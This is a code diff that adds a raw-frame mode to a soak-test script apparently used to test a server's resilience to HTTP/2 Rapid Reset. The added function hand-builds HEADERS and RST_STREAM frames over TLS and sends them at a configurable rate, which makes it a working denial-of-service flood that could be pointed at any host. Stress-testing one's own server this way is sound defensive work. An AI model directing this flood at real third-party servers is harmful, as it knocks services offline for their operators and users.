@@ -3,13 +3,17 @@
 // reset it at once, at a given rate, until the server ends the session or the
 // time is up. h2load cannot do this; Node's http2 client can.
 //
-//   node scripts/soak/h2-rapid-reset.mjs https://127.0.0.1:8443 [--rate 10000] [--seconds 30] [--master PID]
+//   node scripts/soak/h2-rapid-reset.mjs https://127.0.0.1:8443 [--rate 10000] [--seconds 30] [--master PID] [--raw]
+//
+// --raw writes the frames itself (HEADERS then RST_STREAM), for a Node whose
+// client sends nothing for a stream closed at once (Node 22's).
 //
 // With --master, it also measures a parallel well-behaved client's latency
 // (p99 before and during the flood) and the workers' RSS growth, which are
 // what the flood must not move much.
 import { readFileSync, readdirSync } from 'node:fs';
 import http2 from 'node:http2';
+import tls from 'node:tls';
 import { parseArgs } from 'node:util';
 
 /**
@@ -49,6 +53,61 @@ export function rapidReset({ url, rate = 10_000, seconds = 30 }) {
             return;
           }
         }
+      }, 10);
+    });
+  });
+}
+
+const frame = (type, flags, id, payload) => {
+  const head = Buffer.alloc(9);
+  head.writeUIntBE(payload.length, 0, 3);
+  head[3] = type;
+  head[4] = flags;
+  head.writeUInt32BE(id, 5);
+  return Buffer.concat([head, payload]);
+};
+// HEADERS (END_HEADERS, the stream left open, as browsers' requests with a body) of GET https / in HPACK's static table, then RST_STREAM CANCEL
+const GET = Buffer.from([0x82, 0x87, 0x84]);
+const CANCEL = Buffer.from([0, 0, 0, 8]);
+
+/**
+ * The same flood in raw frames over TLS, at any rate, whatever the local
+ * Node's client does with a stream closed before it is sent (Node 22's
+ * sends nothing). Resolves as rapidReset() does.
+ */
+export function rawRapidReset({ url, rate = 10_000, seconds = 30 }) {
+  const { hostname, port } = new URL(url);
+  return new Promise((resolve) => {
+    const started = performance.now();
+    let [opened, id, goaway, timer, got] = [0, 1, null, null, Buffer.alloc(0)];
+    const socket = tls.connect({
+      host: hostname,
+      port: Number(port),
+      ALPNProtocols: ['h2'],
+      rejectUnauthorized: false,
+    });
+    const finish = (ended) => {
+      clearInterval(timer);
+      clearTimeout(limit);
+      socket.destroy();
+      resolve({ ended, goaway, opened, afterMs: Math.round(performance.now() - started) });
+    };
+    const limit = setTimeout(() => finish(false), seconds * 1000);
+    socket.on('error', () => {});
+    socket.on('close', () => finish(true));
+    socket.on('data', (chunk) => {
+      got = Buffer.concat([got, chunk]);
+      for (let at = 0; at + 9 <= got.length; at += 9 + got.readUIntBE(at, 3))
+        if (got[at + 3] === 7 && at + 17 <= got.length) goaway ??= got.readUInt32BE(at + 13);
+      got = got.subarray(Math.max(0, got.length - 64 * 1024));
+    });
+    socket.on('secureConnect', () => {
+      socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0, Buffer.alloc(0))]));
+      const perTick = Math.max(1, Math.round(rate / 100));
+      timer = setInterval(() => {
+        const frames = [];
+        for (let i = 0; i < perTick; i++, id += 2, opened++) frames.push(frame(1, 4, id, GET), frame(3, 0, id, CANCEL));
+        if (!socket.destroyed) socket.write(Buffer.concat(frames));
       }, 10);
     });
   });
@@ -112,7 +171,12 @@ function childrenOf(pid) {
 async function main() {
   const { values, positionals } = parseArgs({
     allowPositionals: true,
-    options: { rate: { type: 'string' }, seconds: { type: 'string' }, master: { type: 'string' } },
+    options: {
+      rate: { type: 'string' },
+      seconds: { type: 'string' },
+      master: { type: 'string' },
+      raw: { type: 'boolean', default: false },
+    },
   });
   const url = positionals[0] ?? 'https://127.0.0.1:8443';
   const rate = Number(values.rate ?? 10_000);
@@ -130,7 +194,8 @@ async function main() {
   const until = performance.now() + seconds * 1000;
   let peak = before;
   while (performance.now() < until) {
-    floods.push(await rapidReset({ url, rate, seconds: (until - performance.now()) / 1000 }));
+    const flood = values.raw ? rawRapidReset : rapidReset;
+    floods.push(await flood({ url, rate, seconds: (until - performance.now()) / 1000 }));
     if (master)
       peak = Math.max(
         peak,
